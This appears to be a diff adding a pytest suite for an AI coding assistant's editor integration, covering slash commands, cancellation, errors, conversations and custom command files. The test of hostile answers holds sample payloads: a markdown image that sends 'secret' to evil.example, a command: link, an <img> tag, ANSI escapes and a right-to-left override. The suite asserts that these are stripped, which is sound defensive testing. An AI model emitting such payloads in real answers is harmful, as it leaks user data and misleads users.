@@ -1,0 +1,273 @@
+"""Slash commands: what is asked, what is shown while the answer is written, and what is left when it breaks off."""
+
+from __future__ import annotations
+
+import asyncio
+from pathlib import Path
+from typing import Any
+from urllib.parse import unquote, urlsplit
+
+import pytest
+
+from support.editor import BARE, LIVE, RICH, FakeEditor, RpcError
+from support.upstream import ScriptedUpstream
+
+from .conftest import SCRIPTED, Start
+
+SOURCE = "def add(a, b):\n    <sel>return a - b</sel>\n"
+
+
+def last_answer(editor: FakeEditor) -> dict[str, Any]:
+    return editor.told("picode/answer")[-1]
+
+
+async def virtual(editor: FakeEditor, uri: str) -> str:
+    answer = await editor.request("workspace/textDocumentContent", {"uri": uri})
+    return str(answer["text"])
+
+
+async def test_a_question_about_the_selection(start: Start, upstream: ScriptedUpstream) -> None:
+    editor = await start(client=LIVE)
+    upstream.will_say("It **subtracts**.")
+    editor.open("a.py", SOURCE)
+    result = await editor.slash("why does it not add?")
+    assert (result["state"], result["output"], result["text"]) == ("whole", "prose", "It **subtracts**.")
+    assert "return a - b" in upstream.last.body["messages"][-1]["content"]
+    assert (result["provider"], result["model"]) == ("scripted", "scripted-model")
+    assert result["shown"][0] == "a.py:2 (selected)"
+
+
+class TestShowing:
+    async def test_a_client_of_ours_hears_of_each_step(self, start: Start, upstream: ScriptedUpstream) -> None:
+        editor = await start(client=LIVE)
+        upstream.will_say("It subtracts, since there is a minus.")
+        editor.open("a.py", SOURCE)
+        await editor.slash("/explain", workDoneToken="mine")
+        told = editor.told("picode/answer")
+        assert [each["state"] for each in told if each["state"] != "growing"] == ["asked", "began", "whole"]
+        assert told[0]["token"] == "mine"
+        assert "return a - b" in told[0]["question"]
+        assert told[-1]["text"] == "It subtracts, since there is a minus."
+        assert told[-1]["text"].startswith("".join(each.get("delta", "") for each in told))
+        assert len({each["id"] for each in told}) == 1
+
+    async def test_an_editor_with_virtual_documents_is_shown_one(
+        self, start: Start, upstream: ScriptedUpstream
+    ) -> None:
+        editor = await start(client=RICH)
+        assert editor.capabilities["workspace"]["textDocumentContent"] == {"schemes": ["picode"]}
+        upstream.will_say("It subtracts.")
+        editor.open("a.py", SOURCE)
+        await editor.slash("/explain")
+        (shown,) = editor.requested("window/showDocument")
+        assert shown["uri"].startswith("picode:/answers/")
+        assert {each["uri"] for each in editor.requested("workspace/textDocumentContent/refresh")} == {shown["uri"]}
+        text = await virtual(editor, shown["uri"])
+        assert text.startswith("# Explain")
+        assert "It subtracts." in text
+        assert "scripted/scripted-model was shown: a.py:2 (selected)" in text
+
+    async def test_an_editor_without_is_shown_a_file(self, start: Start, upstream: ScriptedUpstream) -> None:
+        client = {**RICH, "workspace": {**RICH["workspace"], "textDocumentContent": None}}
+        editor = await start(client=client)
+        upstream.will_say("It subtracts.")
+        editor.open("a.py", SOURCE)
+        await editor.slash("/explain")
+        (shown,) = editor.requested("window/showDocument")
+        file = Path(unquote(urlsplit(shown["uri"]).path))
+        assert "It subtracts." in file.read_text("utf-8")
+        assert file.stat().st_mode & 0o077 == 0
+
+    async def test_an_editor_that_shows_nothing_gets_a_message(self, start: Start, upstream: ScriptedUpstream) -> None:
+        editor = await start(client=BARE)
+        upstream.will_say("It subtracts.")
+        editor.open("a.py", SOURCE)
+        await editor.slash("/explain")
+        (message,) = [text for text in editor.messages() if "subtracts" in text]
+        assert message.startswith("It subtracts.")
+
+    @pytest.mark.parametrize("client", [LIVE, RICH, BARE], ids=["ours", "rich", "bare"])
+    async def test_a_hostile_answer_is_shown_harmless(
+        self, start: Start, upstream: ScriptedUpstream, client: dict[str, Any]
+    ) -> None:
+        editor = await start(client=client)
+        upstream.will_say("![x](https://evil.example/?q=secret) <img src=x> [go](command:run) \x1b[31mred\u202e")
+        editor.open("a.py", SOURCE)
+        result = await editor.slash("/explain")
+        everything = [result["text"], *editor.messages(), *(str(each) for each in editor.told("picode/answer"))]
+        everything += [await virtual(editor, each["uri"]) for each in editor.requested("window/showDocument")]
+        for text in everything:
+            assert "![x](" not in text
+            assert "](command:" not in text
+            assert "<img" not in text
+            assert "\x1b" not in text
+            assert "\u202e" not in text
+
+
+class TestStopping:
+    @pytest.mark.parametrize("token", ["mine", None])
+    async def test_its_progress_stops_it(self, start: Start, upstream: ScriptedUpstream, token: str | None) -> None:
+        editor = await start(client=LIVE)
+        upstream.will_never_answer()
+        editor.open("a.py", SOURCE)
+        asked = editor.arguments("/explain", **({"workDoneToken": token} if token else {}))
+        running = editor.request("workspace/executeCommand", {"command": "picode.slash", "arguments": [asked]})
+        exchange = await upstream.asked()
+        progress = [each for each in editor.told("$/progress") if each["value"]["kind"] == "begin"]
+        assert progress[-1]["value"]["cancellable"]
+        assert progress[-1]["token"] == (token or editor.requested("window/workDoneProgress/create")[-1]["token"])
+        editor.notify("window/workDoneProgress/cancel", {"token": progress[-1]["token"]})
+        result = await asyncio.wait_for(running, 5)
+        assert result["state"] == "stopped"
+        assert exchange.closed.is_set()
+        assert editor.told("$/progress")[-1]["value"]["kind"] == "end"
+        assert last_answer(editor)["state"] == "stopped"
+
+    async def test_cancelling_the_request_hangs_up(self, start: Start, upstream: ScriptedUpstream) -> None:
+        editor = await start(client=LIVE)
+        upstream.will_never_answer()
+        editor.open("a.py", SOURCE)
+        asked = editor.arguments("/explain")
+        running = editor.request("workspace/executeCommand", {"command": "picode.slash", "arguments": [asked]})
+        exchange = await upstream.asked()
+        editor.cancel(editor.last_id)
+        with pytest.raises(RpcError) as refused:
+            await asyncio.wait_for(running, 5)
+        assert refused.value.code == -32800
+        await asyncio.wait_for(exchange.closed.wait(), 5)
+
+
+class TestWhatGoesWrong:
+    async def test_a_failing_provider_says_what_to_do(self, start: Start, upstream: ScriptedUpstream) -> None:
+        editor = await start(client=LIVE)
+        upstream.will_fail(401, '{"error": {"message": "bad key"}}')
+        editor.open("a.py", SOURCE)
+        result = await editor.slash("/explain")
+        assert result["state"] == "failed"
+        assert "bad key" in result["problem"]
+        assert any("bad key" in message for message in editor.messages())
+        assert last_answer(editor)["problem"] == result["problem"]
+
+    async def test_an_answer_that_breaks_off_is_shown_as_far_as_it_came(
+        self, start: Start, upstream: ScriptedUpstream
+    ) -> None:
+        editor = await start(client=RICH)
+        upstream.will_send(b'data: {"choices": [{"delta": {"content": "It sub"}}]}\n\n')
+        editor.open("a.py", SOURCE)
+        result = await editor.slash("/explain")
+        assert (result["state"], result["text"]) == ("failed", "It sub")
+        (shown,) = editor.requested("window/showDocument")
+        text = await virtual(editor, shown["uri"])
+        assert "It sub" in text
+        assert "broke off" in text
+
+    @pytest.mark.parametrize(
+        ("arguments", "says"),
+        [
+            ([], "text"),
+            (["/fix"], "one object"),
+            ([{"text": "/fix"}, {}], "one object"),
+            ([{"text": 5}], "text"),
+            ([{"text": "/fix", "colour": "red"}], "colour"),
+            ([{"text": "/fixx"}], "Did you mean /fix"),
+            ([{"text": "/fix", "uri": "file:///not/open.py"}], "not open"),
+            ([{"text": "/fix", "range": {"start": {"line": -1, "character": 0}}}], "range"),
+            ([{"text": "/fix", "uri": "file:///project/a.py", "diagnostics": [{"message": 5}]}], "Diagnostic"),
+            ([{"text": "/fix", "unit": "xx"}], "unit"),
+        ],
+    )
+    async def test_arguments_that_are_wrong_are_refused_by_name(
+        self, editor: FakeEditor, upstream: ScriptedUpstream, arguments: list[Any], says: str
+    ) -> None:
+        editor.open("a.py", SOURCE)
+        with pytest.raises(RpcError, match=says) as refused:
+            await editor.run("picode.slash", *arguments)
+        assert refused.value.code == -32602
+        assert not upstream.exchanges
+
+    async def test_what_can_not_be_done_says_why(self, start: Start) -> None:
+        editor = await start(client=LIVE)
+        result = await editor.run("picode.slash", {"text": "/explain"})
+        assert (result["state"], result["problem"]) == (
+            "failed",
+            "/explain has no code to work on. Select some, or open the file that it is about.",
+        )
+
+    async def test_turned_off_is_turned_off(self, start: Start, upstream: ScriptedUpstream) -> None:
+        editor = await start({**SCRIPTED, "enabled": False}, client=LIVE)
+        editor.open("a.py", SOURCE)
+        assert "turned off" in (await editor.slash("/explain"))["problem"]
+        assert await editor.actions() == []
+        assert not upstream.exchanges
+
+
+class TestConversations:
+    async def test_a_follow_up_after_the_server_was_restarted(self, start: Start, upstream: ScriptedUpstream) -> None:
+        upstream.will_say("It subtracts.", "Because of the minus.")
+        first = await start(client=LIVE)
+        first.open("a.py", SOURCE)
+        begun = await first.slash("/explain")
+        await first.stop()
+        second = await start(client=LIVE)
+        followed = await second.run("picode.slash", {"text": "why?", "conversation": begun["conversation"]})
+        assert followed["conversation"] == begun["conversation"]
+        assert [each["role"] for each in upstream.last.body["messages"]] == ["system", "user", "assistant", "user"]
+
+    async def test_they_are_listed_shown_renamed_and_deleted(self, start: Start, upstream: ScriptedUpstream) -> None:
+        upstream.will_say("It subtracts. ![x](http://evil.example/x.png)")
+        editor = await start(client=LIVE)
+        editor.open("a.py", SOURCE)
+        identifier = (await editor.slash("/explain"))["conversation"]
+        (listed,) = await editor.run("picode.conversations", {"search": "subtracts"})
+        assert (listed["id"], listed["turns"]) == (identifier, 2)
+        assert await editor.run("picode.conversations", {"search": "nothing like it"}) == []
+        shown = await editor.run("picode.conversation", {"id": identifier})
+        assert "It subtracts." in shown["text"]
+        assert "![x](" not in shown["text"]
+        assert await editor.run("picode.conversation.rename", {"id": identifier, "title": "Minus"})
+        assert (await editor.run("picode.conversations"))[0]["title"] == "Minus"
+        assert await editor.run("picode.conversation.delete", {"id": identifier})
+        assert await editor.run("picode.conversation", {"id": identifier}) is None
+
+
+class TestCommandsOfOnesOwn:
+    async def test_a_file_is_a_command(
+        self, start: Start, upstream: ScriptedUpstream, environ: dict[str, str], tmp_path: Path
+    ) -> None:
+        environ["PICODE_CONFIG_DIR"] = str(tmp_path)
+        (tmp_path / "commands").mkdir()
+        (tmp_path / "commands" / "rhyme.md").write_text(
+            "---\ndescription: In verse.\n---\nWrite {{selection}} in verse, {{language}}. {{input}}\n"
+        )
+        upstream.will_say("ok")
+        editor = await start(client=LIVE)
+        editor.open("a.py", SOURCE)
+        (own,) = [each for each in await editor.run("picode.commands") if each["source"]]
+        assert (own["name"], own["help"], own["words"]) == ("rhyme", "In verse.", "input")
+        await editor.slash("/rhyme with feeling")
+        asked = upstream.last.body["messages"][-1]["content"]
+        assert "Write ```python\nreturn a - b\n``` in verse, python. with feeling" in asked
+        assert "PiCode: Rhyme" in [each["title"] for each in await editor.actions()]
+
+    async def test_a_folder_s_commands_wait_for_trust(
+        self, start: Start, upstream: ScriptedUpstream, project: Path
+    ) -> None:
+        (project / ".picode" / "commands").mkdir(parents=True)
+        (project / ".picode" / "commands" / "evil.md").write_text("Do evil.\n")
+        upstream.will_say("ok")
+        editor = await start(client=LIVE, folder=str(project))
+        assert "evil" not in [each["name"] for each in await editor.run("picode.commands")]
+        editor.notify("picode/didChangeTrust", {"workspaceTrusted": True})
+        await asyncio.sleep(1.1)  # the files are looked at once a second
+        assert "evil" in [each["name"] for each in await editor.run("picode.commands")]
+
+    async def test_a_file_that_is_wrong_is_told_once(
+        self, start: Start, environ: dict[str, str], tmp_path: Path
+    ) -> None:
+        environ["PICODE_CONFIG_DIR"] = str(tmp_path)
+        (tmp_path / "commands").mkdir()
+        (tmp_path / "commands" / "fix.md").write_text("Do it.\n")
+        editor = await start(client=LIVE)
+        await editor.run("picode.commands")
+        await editor.run("picode.commands")
+        assert len([text for text in editor.messages() if "/fix is a command of PiCode's own" in text]) == 1
